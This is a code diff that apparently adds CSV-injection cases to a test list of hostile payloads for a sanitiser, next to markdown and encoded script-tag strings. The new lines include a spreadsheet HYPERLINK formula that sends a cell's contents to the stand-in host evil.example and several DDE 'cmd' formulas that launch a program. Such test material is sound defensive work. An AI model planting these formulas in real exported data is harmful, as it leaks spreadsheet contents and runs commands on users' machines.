@@ -44,7 +44,14 @@ PAYLOADS: tuple[str, ...] = (
     "**bold** _it_ $x^2$ :red[red]",
     "line one\nline two <b data-pwn=1>bold</b>",
     "%3Cscript%3Ealert(1)%3C/script%3E",
+    # Formulas a spreadsheet would run from a downloaded CSV (OWASP "CSV injection").
+    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
 )
+# The characters that make a spreadsheet read a cell as a formula.
+FORMULA_PAYLOAD_STARTS = ("=", "+", "-", "@")
 EMPTY_LIKE = frozenset({"", "NaN"})
 
 # Source URLs that pass the validator (absolute http(s)) but try to break out of a link.
